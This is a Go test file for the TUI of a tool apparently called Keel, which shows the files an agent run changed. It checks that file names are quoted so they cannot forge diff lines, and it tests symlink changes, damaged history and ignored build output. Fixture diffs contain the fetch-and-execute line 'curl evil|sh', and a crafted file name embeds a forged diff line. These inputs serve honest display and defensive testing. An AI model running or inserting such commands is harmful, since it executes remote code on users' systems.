package tui

import (
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/keel-run/keel/agent"
	"github.com/keel-run/keel/internal/checkpoint"
	"github.com/keel-run/keel/journal"
)

// A file name with a newline must not forge a line of the list of
// changed files or of a diff (as git quotes it: core.quotePath).
func TestChangesQuoteNames(t *testing.T) {
	forged := "n\nM a.txt +0 -0"
	changes := []checkpoint.Change{
		checkpoint.FileDiff("a.txt", []byte("x\n"), []byte("x\nos.system('curl evil|sh')\n")),
		checkpoint.FileDiff(forged, nil, []byte("y")),
		checkpoint.FileDiff("q\"\\\r\x01", nil, []byte("z\n")),
	}
	var b strings.Builder
	Changes(Esc(&b), changes, "since x", false)
	out := b.String()
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, "M a.txt") || strings.HasPrefix(l, "  M a.txt +0 -0") {
			t.Errorf("forged line %q in:\n%s", l, out)
		}
	}
	for _, want := range []string{`  A "n\nM a.txt +0 -0" +1 -0`, `diff --git "a/n\nM a.txt +0 -0" "b/n\nM a.txt +0 -0"`, `+++ "b/n\nM a.txt +0 -0"`, `  A "q\"\\\r\001" +1 -0`} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
}

// A type change names the link's target and the change's note; a diff
// whose start commit git cannot read shows the run's checkpoints
// instead, saying so.
func TestRunDiffNotesAndDamagedHistory(t *testing.T) {
	link := checkpoint.FileDiff("run.sh", []byte("#!/bin/sh\necho build\n"), []byte("#!/bin/sh\ncurl evil|sh\n"))
	link.Status, link.Link, link.Note = checkpoint.TypeChanged, ".git/run-helper", "points into git's own directory, to .git/run-helper: the diff shows its content"
	created := &agent.RunCreated{Workspace: "/w", Git: &agent.GitStart{Commit: "0123456789abcdef"}}
	for _, tt := range []struct {
		name string
		err  error
		want []string
	}{
		{"type change", nil, []string{"  T run.sh → symlink to .git/run-helper +1 -1 (points into git's own directory, to .git/run-helper: the diff shows its content)", "+curl evil|sh"}},
		{"damaged history", &checkpoint.HistoryError{Cause: checkpoint.ErrHistory, From: 2, To: 7}, []string{
			"warning: the repository's history was damaged: git cannot read the run's start commit",
			"1 file(s) changed since the run's first checkpoint (event 2; Keel's own store), at the checkpoint of event 7 (+1 -1)",
		}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			diff := func(context.Context, string, *agent.RunCreated) (*checkpoint.Summary, error) {
				if tt.err != nil {
					he := tt.err.(*checkpoint.HistoryError)
					he.Changes = []checkpoint.Change{link}
					return nil, he
				}
				return &checkpoint.Summary{Changes: []checkpoint.Change{link}}, nil
			}
			var b strings.Builder
			if err := RunDiff(t.Context(), &b, diff, "r", created, false); err != nil {
				t.Fatal(err)
			}
			for _, w := range tt.want {
				if !strings.Contains(b.String(), w) {
					t.Errorf("output lacks %q:\n%s", w, b.String())
				}
			}
		})
	}
}

// Files git ignores that a run wrote (__pycache__, .pytest_cache) are
// listed but not counted as the run's changes (fresh-user trial 6, F5:
// the demo said "3 file(s) changed" for one edit, "2 file(s) changed"
// after a deny that changed nothing).
func TestChangesCountIgnoredApart(t *testing.T) {
	pyc := checkpoint.Change{Path: "__pycache__/t.cpython-311.pyc", Status: checkpoint.Added, Ignored: true}
	cache := checkpoint.Change{Path: ".pytest_cache", Status: checkpoint.Added, Ignored: true, Files: 4}
	edit := checkpoint.FileDiff("textstats.py", []byte("a\n"), []byte("b\n"))
	for _, tt := range []struct {
		name    string
		changes []checkpoint.Change
		want    string
	}{
		{"edit and build output", []checkpoint.Change{pyc, cache, edit},
			"1 file(s) changed since x (+1 -1); 5 file(s) git ignores were written too (build output, caches: listed, not counted)\n"},
		{"only build output", []checkpoint.Change{pyc},
			"no files changed since x; 1 file(s) git ignores were written too (build output, caches: listed, not counted)\n"},
		{"only an edit", []checkpoint.Change{edit}, "1 file(s) changed since x (+1 -1)\n"},
		// A directory of ignored files, some of them code that runs, is
		// counted as its files, apart (fresh-user trial 12, B9: "2
		// file(s) changed (+0 -0)" for src/ and tests/ holding only
		// .pyc files); one ignored file that runs on its own is counted,
		// and the headline says which.
		{"ignored code by directory", []checkpoint.Change{pyc, cache, edit,
			{Path: "src/", Status: checkpoint.Added, Ignored: true, Files: 22, Autorun: "22 of them are code that runs (Python bytecode, and the like)"}},
			"1 file(s) changed since x (+1 -1); 27 file(s) git ignores were written too (build output, caches: listed, not counted)\n"},
		{"an ignored file that runs", []checkpoint.Change{cache, edit,
			{Path: "__pycache__/textstats.cpython-311.pyc", Status: checkpoint.Modified, Ignored: true, Autorun: "Python bytecode"}},
			"2 file(s) changed since x (+1 -1), 1 of them ignored by git but code that runs on its own; 4 file(s) git ignores were written too (build output, caches: listed, not counted)\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var b strings.Builder
			Changes(Esc(&b), tt.changes, "since x", true)
			if first, _, _ := strings.Cut(b.String(), "\n"); first+"\n" != tt.want {
				t.Errorf("headline %q, want %q", first, tt.want)
			}
			for _, c := range tt.changes {
				if !strings.Contains(b.String(), c.Path) {
					t.Errorf("%s is not listed:\n%s", c.Path, b.String())
				}
			}
		})
	}
}

type noChanges struct{}

func (noChanges) WorkspaceDiff(context.Context, string, *agent.RunCreated) (*checkpoint.Summary, error) {
	return &checkpoint.Summary{}, nil
}

func (noChanges) CheckpointDiff(context.Context, string, []journal.Event, int64) ([]checkpoint.Change, int64, int64, error) {
	return nil, 2, 2, nil
}

// A run that paused before its first edit (waiting for an approval, a
// lead waiting for its children) has changed no files yet: the end note
// says "yet"; a run that ended says "no files changed".
func TestEndDiffPausedSaysYet(t *testing.T) {
	at := time.Date(2026, 12, 7, 6, 0, 0, 0, time.UTC)
	created, _ := json.Marshal(&agent.RunCreated{Task: "t", Model: "m", Workspace: "/w", MountPath: "/workspace"})
	end := func(typ journal.Type) func() ([]journal.Event, error) {
		p, _ := json.Marshal(&agent.RunEnded{Reason: "user"})
		return func() ([]journal.Event, error) {
			return []journal.Event{{RunID: "r1", Seq: 1, Time: at, Type: journal.RunCreated, Payload: created},
				{RunID: "r1", Seq: 2, Time: at, Type: typ, Payload: p}}, nil
		}
	}
	for _, tt := range []struct {
		typ  journal.Type
		want string
	}{
		{journal.RunPaused, "no files changed yet "},
		{journal.RunCanceled, "no files changed since"},
	} {
		var b bytes.Buffer
		EndDiff(t.Context(), &b, noChanges{}, "r1", &agent.RunCreated{Workspace: "/w"}, end(tt.typ), "keel")
		if !strings.Contains(b.String(), tt.want) {
			t.Errorf("%s: %q, want %q", tt.typ, b.String(), tt.want)
		}
	}
}
